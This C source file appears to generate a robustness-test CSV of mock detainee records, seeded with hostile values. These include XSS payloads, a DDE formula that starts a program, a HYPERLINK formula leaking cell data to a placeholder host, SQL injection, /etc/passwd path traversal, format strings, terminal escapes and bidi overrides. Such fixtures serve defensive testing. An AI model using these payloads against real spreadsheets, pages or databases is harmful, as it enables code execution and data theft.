/*
 * hostile.csv: what a list may contain when somebody means harm, or merely pastes.
 * Written byte for byte here: csv_write_row() would take the sting out of formulas.
 */
#include "gen_int.h"

#define RLO "\xe2\x80\xae"             /* U+202E right-to-left override */
#define LRI "\xe2\x81\xa6"             /* U+2066 left-to-right isolate, never closed */
#define RLM "\xe2\x80\x8f"             /* U+200F */
#define ALM "\xd8\x9c"                 /* U+061C */

static const char *const lines[] = {
	"No,Name,Family name,Father's name,Date of birth,Arrested on,Prison,Source note",
	"1,<script>alert(1)</script>,Karimi,Hassan,1985-03-12,2019-11-18,Evin,HTML in a name",
	"2,<b>Reza</b>,Ahmadi,Ali,1979,2019-11-17,Evin,<img src=x onerror=alert(2)>",
	"3,Maryam,\"\"\"><svg/onload=alert(3)>\",Reza,1990-01-01,2018-05-02,Qarchak,attribute",
	"4,Ali &amp; Reza,O&#39;Karimi,Hossein,1988-02-03,2017-07-09,Evin,entities",
	"5,=cmd|' /C calc'!A0,Jafari,Reza,1980,2019-03-01,Evin,a formula that starts a program",
	"6,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&B2,\"\"click\"\")\",Nouri,Ali,1981,"
		"2019-03-02,Evin,formula",
	"7,+1+1,-2-2,@SUM(A1:A9),1982,2019-03-03,Evin,=1+1",
	"8,\"\t=1+1\",\"\r=2+2\",Ali,1983,2019-03-04,Evin,formula behind a TAB and a CR",
	"9," RLO "azeR" RLO ",Hosseini,Abbas,1975-05-05,2019-03-05,Evin,bidi override",
	"10,Babak" LRI ",Rahimi,Karim,1976,2019-03-06,Evin,an isolate that never ends",
	"11," RLM "رضا" ALM ",محمدی,حسن,1977,2019-03-07,اوین,marks in Persian",
	"12,\"Zahra\nLeila\",\"Moradi\r\nsecond line\",Ali,1978,2019-03-08,Evin,"
		"\"a note\nin three\nlines\"",
	"13,\"Ali \"\"the elder\"\"\",\"Karimi, Jr.\",Hassan,1979,2019-03-09,\"Evin; ward 4\","
		"quotes and delimiters",
	"14,Reza\x01\x02\x1b[31m,Salehi,Ali,1980,2019-03-10,Evin,terminal controls",
	"15,%s%n%x,Asadi,../../etc/passwd,1981,2019-03-11,Evin,formats and paths",
	"16,'; DROP TABLE person; --,Amini,Ali,1982,2019-03-12,Evin,SQL",
	"17,Sara,Azizi,Ali,1983-02-30,2019-13-45,Evin,impossible dates",
	"18,,,,,,,no name at all",
	"19,\"   \",\"\",Ali,0,99999-01-01,Evin,blank name and absurd years",
	"20,A\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81li,Zamani,Ali,1984,"
		"2019-03-13,Evin,heaped marks",
	"21,\xef\xb7\xba\xef\xb7\xba,\xf0\x9d\x94\x84\xf0\x9d\x94\xa9\xf0\x9d\x94\xa6,Ali,1985,"
		"2019-03-14,Evin,wide ligatures and letters outside the BMP",
	"22,null,undefined,NaN,1986,2019-03-15,Evin,NA",
};

enum { LONG_LATIN = 100000, LONG_PERSIAN = 20000 };

enum status
hostile_write(const struct gen *g)
{
	struct out *o = out_open(g, "hostile.csv");
	struct buf *b = out_buf(o);

	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++)
		buf_fmt(b, "%s\r\n", lines[i]);
	buf_cstr(b, "23,");
	for (int i = 0; i < LONG_LATIN; i++)
		buf_byte(b, 'A');
	buf_cstr(b, ",Karimi,Ali,1987,2019-03-16,Evin,a name without end\r\n24,Reza,Ahmadi,Ali,"
		"1988,2019-03-17,Evin,");
	for (int i = 0; i < LONG_PERSIAN; i++)
		buf_cstr(b, i % 10 == 9 ? " " : "آ");
	buf_cstr(b, "\r\n");
	return out_close(o);
}
